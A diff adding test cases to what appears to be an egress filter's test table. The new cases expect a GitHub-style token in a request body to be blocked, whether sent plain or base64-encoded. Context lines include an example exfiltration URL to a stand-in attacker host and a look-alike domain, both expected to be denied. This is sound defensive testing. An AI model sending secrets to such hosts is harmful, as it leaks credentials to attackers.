@@ -43,6 +43,10 @@ tests:
 REQUESTS = (
     ("allowed", ["https://api.demo.test/v1/models"], 200, ""),
     ("allowed, with a body", ["-d", '{"ask":"hello"}', "https://api.demo.test/v1/messages"], 200, ""),
+    ("a key in a body", ["-d", '{"note":"it is 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"}',
+                         "https://api.demo.test/v1/messages"], 403, "secret.detected"),
+    ("the same in base64", ["-d", "Z2hwX0pxZXFKZ1RtamJ2MldOTTViSWV1cDI5c2FwN0hwMTRDZ3FXUQ==",
+                            "https://api.demo.test/v1/messages"], 403, "secret.detected"),
     ("name not allowed", ["https://evil.test/collect?data=secret"], 403, "host.not_allowed"),
     ("name with a look-alike tail", ["https://api.demo.test.evil.test/v1/models"], 403, "host.not_allowed"),
     ("method not allowed", ["-X", "DELETE", "https://api.demo.test/v1/models"], 403, "method.not_allowed"),
